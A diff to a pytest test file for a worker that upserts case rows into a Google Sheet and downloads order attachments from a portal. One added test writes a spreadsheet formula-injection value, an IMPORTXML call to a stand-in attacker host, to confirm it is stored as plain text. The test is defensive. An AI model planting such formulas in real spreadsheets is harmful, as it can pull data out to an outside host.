@@ -160,8 +160,16 @@ def test_rows_are_found_by_case_number_and_extra_columns_are_kept(sheets):
 def test_an_unshared_sheet_is_a_permanent_failure(sheets):
     _, sheet = sheets
     sheet.spreadsheet_id = "not-shared"
-    with pytest.raises(PermanentError, match="share it with the worker"):
+    with pytest.raises(PermanentError, match="share it with the worker's service account"):
         sheet.upsert("2026-001", {})
+
+
+def test_values_are_written_as_text_never_as_formulas(sheets):
+    service, sheet = sheets
+    sheet.upsert("2026-002", {"client": '=IMPORTXML("https://evil.example","//a")', "due": "2026-12-01"})
+    row = service.get_values("book", "Cases!A2:E2")["values"][0]
+    assert row[1].startswith("=IMPORTXML") and row[4] == "2026-12-01"
+    assert set(service.value_inputs) == {"RAW"}
 
 
 def test_column_letters():
@@ -187,8 +195,10 @@ def test_login_pages_and_downloads_the_orders_attachments(site, tmp_path):
     fetched = collect(fetcher(site), portal_site.USERNAME, portal_site.PASSWORD, "PO-1042", storage, "case/portal")
     assert [f["name"] for f in fetched.files] == ["drawing-A12.pdf", "仕様書.txt"]
     assert storage.read("case/portal/drawing-A12.pdf") == portal_site.DRAWING
-    assert "GET /orders?page=3" not in site.requests or True
-    assert sum(1 for r in site.requests if r.startswith("GET /orders")) >= 3  # it paged to find the order
+    # PO-1042 is on the third page: the fetcher followed the list's "next" links to it, no further
+    pages = [r for r in site.requests if r.startswith("GET /orders?page=")]
+    assert pages == ["GET /orders?page=2", "GET /orders?page=3"]
+    assert "GET /orders/PO-1042" in site.requests
     again = collect(fetcher(site), portal_site.USERNAME, portal_site.PASSWORD, "PO-1042", storage, "case/portal")
     assert again.files == fetched.files and site.downloads.count("drawing-A12.pdf") == 1
 
@@ -246,3 +256,19 @@ def test_credentials_from_env_and_file(monkeypatch, tmp_path):
     for bad in ("env:MISSING_VAR", "file:/no/such/file", "plain", "file:" + str(tmp_path)):
         with pytest.raises(PermanentError):
             resolve_credentials(bad)
+
+
+def test_a_sheet_service_that_does_not_answer_is_a_transient_failure(tmp_path):
+    from ackflow.devtools.procs import free_port
+
+    key = LocalSigner.generate("sa")
+    credentials = tmp_path / "sa.json"
+    dead = f"http://127.0.0.1:{free_port()}"
+    credentials.write_text(json.dumps({
+        "type": "service_account", "project_id": "p", "private_key_id": key.kid, "private_key": key.key_pem.decode(),
+        "client_email": "w@p.iam.gserviceaccount.com", "client_id": "1", "token_uri": dead + "/token",
+        "universe_domain": "local.invalid"}))
+    with pytest.raises(TransientError):
+        CaseSheet("book", "Cases", endpoint=dead, credentials_file=str(credentials)).upsert("2026-001", {})
+    with pytest.raises(PermanentError, match="no usable Google credentials"):
+        CaseSheet("book", "Cases", endpoint=dead, credentials_file=str(tmp_path / "missing.json")).upsert("x", {})
